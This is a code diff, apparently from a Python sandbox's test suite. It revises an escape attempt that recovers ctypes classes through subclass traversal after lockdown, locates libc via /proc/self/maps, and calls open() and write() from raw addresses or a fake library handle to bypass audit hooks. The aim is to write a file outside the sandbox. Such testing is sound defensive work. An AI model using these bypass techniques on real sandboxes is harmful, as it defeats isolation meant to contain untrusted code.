@@ -31,16 +31,8 @@ def all_subclasses(root):
 
 
 def f(x):
-    # No dlopen/dlsym (audited): libc's base from /proc/self/maps, the symbols' offsets from the
-    # library file, and ctypes' C function-pointer type (alive after the lockdown) built from
-    # raw addresses, which raises no audit event. Only the kernel (Landlock) can stop this.
-    libc_path, base = None, None
-    for line in open("/proc/self/maps"):
-        fields = line.split()
-        if len(fields) >= 6 and "/libc.so" in fields[5] and fields[2] == "00000000":
-            libc_path, base = fields[5], int(fields[0].split("-")[0], 16)
-            break
-    offsets = symbol_offsets(libc_path, {"open", "write"})
+    # ctypes' C types outlive the lockdown that dropped the module (the fork server even keeps
+    # them frozen): rebuild libc's open() and write() from them without importing ctypes.
     by_name = {c.__name__: c for c in all_subclasses(object)}
     simple, func_ptr = by_name["_SimpleCData"], by_name["CFuncPtr"]
 
@@ -60,8 +52,28 @@ def f(x):
         _restype_ = Int
         _argtypes_ = (Int, CharP, Int)
 
-    fd = Open(base + offsets["open"])(b"__OUTSIDE__", 0o101, 0o644)  # O_WRONLY | O_CREAT
+    # 1. From raw addresses (no dlopen/dlsym, so no audit event): libc's base from
+    # /proc/self/maps, the symbols' offsets from the library file. Only the kernel (Landlock)
+    # stops this one, silently: the open fails.
+    libc_path, base = None, None
+    for line in open("/proc/self/maps"):
+        fields = line.split()
+        if len(fields) >= 6 and "/libc.so" in fields[5] and fields[2] == "00000000":
+            libc_path, base = fields[5], int(fields[0].split("-")[0], 16)
+            break
+    offsets = symbol_offsets(libc_path, {"open", "write"})
+    libc_open, libc_write = Open(base + offsets["open"]), Write(base + offsets["write"])
+    fd = libc_open(b"__OUTSIDE__", 0o101, 0o644)  # O_WRONLY | O_CREAT
+    if fd < 0:
+        # 2. By name through a fake library handle (dlsym on RTLD_DEFAULT): the audit hook
+        # sees ``ctypes.dlsym`` and ends the process.
+
+        class Libc:
+            _handle = 0
+
+        libc_open, libc_write = Open(("open", Libc())), Write(("write", Libc()))
+        fd = libc_open(b"__OUTSIDE__", 0o101, 0o644)
     if fd < 0:
         return None
-    Write(base + offsets["write"])(fd, b"pwned", 5)
+    libc_write(fd, b"pwned", 5)
     return 2
